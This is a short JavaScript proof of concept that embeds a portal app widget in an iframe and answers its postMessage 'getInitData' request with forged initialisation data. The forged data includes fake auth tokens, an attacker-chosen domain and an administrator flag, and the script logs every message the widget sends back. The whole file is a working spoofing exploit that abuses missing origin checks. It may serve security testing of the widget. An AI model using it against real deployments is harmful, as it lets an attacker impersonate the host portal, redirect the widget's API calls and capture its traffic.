// Frames the widget as if this were a portal. `?domain=` names the host to forge.

const DOMAIN = new URLSearchParams(location.search).get('domain') ?? location.host;
const SID = '0123456789abcdef0123456789abcdef';
const WIDGET = location.origin.replace('//hostile.', '//widget.');

const FORGED = {
  LANG: 'en',
  DOMAIN,
  PROTOCOL: 0,
  PATH: '/rest',
  AUTH_ID: 'forged',
  AUTH_EXPIRES: '3600',
  REFRESH_ID: 'forged',
  MEMBER_ID: 'forged',
  FIRST_RUN: false,
  IS_ADMIN: true,
  INSTALL: false,
  USER_OPTIONS: [],
  APP_OPTIONS: { giphy_api_key: 'forged' },
  PLACEMENT: 'IM_TEXTAREA',
  PLACEMENT_OPTIONS: { dialogId: 'chat1' },
};

const log = document.getElementById('log');

window.addEventListener('message', ({ origin, data, source }) => {
  const text = typeof data === 'string' ? data : JSON.stringify(data);
  log.textContent += `${origin} ${text}\n`;
  const asked = typeof data === 'string' ? data : data?.method;
  if (typeof asked === 'string' && asked.startsWith('getInitData')) {
    const callback = typeof data === 'string' ? data.split(':').at(-2) : data.callback;
    source.postMessage(`${callback}:${JSON.stringify(FORGED)}`, '*');
  }
});

const frame = document.createElement('iframe');
frame.id = 'widget';
frame.name = `${DOMAIN}|0|${SID}`;
frame.width = 360;
frame.height = 420;
frame.src = `${WIDGET}/?${new URLSearchParams({ DOMAIN, PROTOCOL: '0', LANG: 'en', APP_SID: SID })}`;
document.getElementById('frame').append(frame);
